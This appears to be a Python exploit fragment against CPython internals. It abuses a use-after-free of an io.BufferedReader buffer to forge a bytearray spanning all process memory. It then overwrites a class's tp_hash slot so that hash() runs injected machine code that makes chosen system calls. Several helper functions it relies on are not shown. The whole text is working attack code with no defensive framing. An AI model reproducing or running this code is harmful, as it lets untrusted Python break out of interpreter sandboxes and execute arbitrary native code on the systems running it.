def stale_view():
    """A view of freed memory that a list now uses for its elements. The buffer of a buffered reader is
    freed with the reader, whoever still looks at it."""
    import io

    class Keeper(io.RawIOBase):
        def readable(self):
            return True

        def readinto(self, view):
            self.view = view.cast("P")
            return 0

    keeper = Keeper()
    io.BufferedReader(keeper, 8192).read(1)
    view, others = keeper.view, []
    for _ in range(64):
        elements = [None] * len(view)
        if view[0] == view[-1] == id(None):
            return view, elements
        others.append(elements)
    raise OSError(38, "this interpreter does not leave the buffer")


def all_memory():
    """A bytearray that begins at address 0 and never ends: its object is forged in a bytes object, and
    the list is told that it holds it."""
    view, elements = stale_view()
    # References, type, size; bytes allocated, their address, start; views.
    head = struct.pack("@nPn", 1, id(bytearray), sys.maxsize - 1)
    forged = head + struct.pack("@nPPn", sys.maxsize, 0, 0, 0)
    view[0] = place(forged)
    memory = elements[0]
    view[0] = id(None)
    return memory, forged


def carry(scene):
    memory, forged = all_memory()

    class Door:
        pass

    # The fifteenth word of a type is tp_hash.
    door, slot = Door(), id(Door) + 120
    before = bytes(memory[slot : slot + 8])

    def call(number, *arguments):
        result = fresh()
        page, start = executable(scene, assemble(number, arguments, result))
        # Behind references and type, a map has its address.
        address = struct.unpack("@P", memory[id(page) + 16 : id(page) + 24])[0] + start
        memory[slot : slot + 8] = struct.pack("@P", address)
        hash(door)
        memory[slot : slot + 8] = before
        return value(result)

    call.keep = forged
    return call


